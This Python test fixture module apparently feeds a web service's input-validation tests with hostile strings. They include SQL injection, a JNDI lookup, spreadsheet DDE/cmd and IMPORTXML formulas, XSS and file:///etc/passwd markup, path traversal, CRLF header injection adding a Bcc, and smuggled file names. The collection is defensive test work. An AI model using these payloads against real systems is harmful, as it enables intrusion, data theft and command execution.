"""What people who mean harm send, as data: one list for each place where text or bytes can turn into something else."""

from tests.unit.names import NAMES, STEERING

# Texts that PostgreSQL, JSON or Unicode cannot hold, and such that only look harmless.
UNHOLDABLE = ["\0", "a\0b", "\ud800", "a\udfffb"]
ODD_TEXTS = [
    "",
    " ",
    "\u202eevil",
    "\ufeff",
    "\x1b[31m",
    "%",
    "_%_",
    "\\",
    "'; DROP TABLE orders; --",
    '" OR "1"="1',
    "{{ 7 * 7 }}",
    "${jndi:ldap://x}",
    "x" * 10_000,
    "𝕏" * 300,
]
# As they are written in JSON: what no type of ours holds, and what only a careless reader takes.
ODD_JSON = [
    "null",
    "true",
    "-1",
    "0.5",
    "1e400",
    "-1e400",
    "NaN",
    "Infinity",
    "9223372036854775808",
    "-9223372036854775809",
    "1" + "0" * 400,
    '"9999-12-31T23:59:59.999999+00:00"',
    '"0001-01-01T00:00:00-14:00"',
    '"0001-01-01"',
    "[]",
    "{}",
    "[[]]",
    '"\\u0000"',
    '"\\ud800"',
    '"%s"' % ("x" * 10_000),
]
# Whole bodies that are no good JSON, or more of it than anybody means.
ODD_BODIES = {
    "nothing": b"",
    "cut": b"{",
    "no text": b"\xff\xfe\xfa",
    "overlong text": b'{"a": "\xc0\xaf"}',
    "raw control characters": b'{"a": "\x00\x01\n"}',
    "deep lists": b"[" * 100_000 + b"]" * 100_000,
    "deep objects": b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
    "a number of many digits": b'{"a": ' + b"9" * 100_000 + b"}",
    "the same name twice": b'{"a": 1, "a": 2}',
    "other encoding": '{"a": 1}'.encode("utf-16"),
    "byte order mark": b'\xef\xbb\xbf{"a": 1}',
    "only a text": b'"text"',
    "a list": b"[]",
    "nothing at all": b"null",
}
# Values of headers, as bytes.
ODD_HEADERS = [
    b"",
    b" ",
    b"\xff\xfe",
    b"a" * 5_000,
    "ключ".encode(),
    b"k,k",
    b'"',
    b'W/"x"',
    b"*",
    b"\x7f",
    b"..%2f%00",
]
# Parts of paths, as they are escaped in an address.
ODD_PARTS = [
    "%00",
    "a%00b",
    "%ff",
    "%ed%a0%80",
    "..%2f..%2fetc%2fpasswd",
    "%2e%2e",
    "%0d%0aX-A:%20b",
    "x" * 4_000,
    "%F0%9F%92%A9",
    "-",
    "0",
    "'",
]

# What a spreadsheet would calculate, fetch or run, also from behind what it skips.
FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x","y")',
    '=IMPORTXML("http://x","//a")',
    '=DDE("cmd";"/C calc";"x")',
    'a";=1+1;"b',
    'a,"b\n=1',
]
# What PDF text markup or HTML would be.
MARKUP = [
    "<b>Bold</b> & <script>alert(1)</script>",
    '<img src="file:///etc/passwd" width="10" height="10"/>',
    '<img src="http://x.test/y.png">',
    "<para><font size=900>",
    "</para></b>",
    "<a href='javascript:alert(1)'>x</a>",
    "<unclosed",
    "&#0;&lt;&amp;nbsp;",
    "]]><!--",
    '" onmouseover="alert(1)',
    "</style><img src=x>",
    "{{ 7 * 7 }} {% raw %} {name} %s {0}",
    "W" * 3_000,
    "\u202eevil\u202c",
]
# What would end a line of a header or of a log.
LINES = [
    "a\r\nBcc: x@evil.test",
    "a\nb",
    "a\rb",
    "a\u2028b",
    "a\x85b",
    "a\x0bb",
    "a\0b",
    "=?utf-8?q?a=0ABcc:?=",
    'x" <a@evil.test>, "y',
]
# Names of files.
FILE_NAMES = [
    "../../etc/passwd",
    "/etc/passwd",
    "C:\\Windows\\system.ini",
    "con",
    "nul.pdf",
    "a\0b.pdf",
    'a"; filename="b.exe',
    "a\r\nX-A: b",
    "gpj.\u202efdp.exe",
    "x" * 300 + ".pdf",
    ".",
    "..",
    "",
    " .pdf",
    "a;b=c",
    "💩.pdf",
]
PEOPLE = [*NAMES, *STEERING]
EVERYTHING = [*PEOPLE, *FORMULAS, *MARKUP, *LINES, *FILE_NAMES, *ODD_TEXTS]
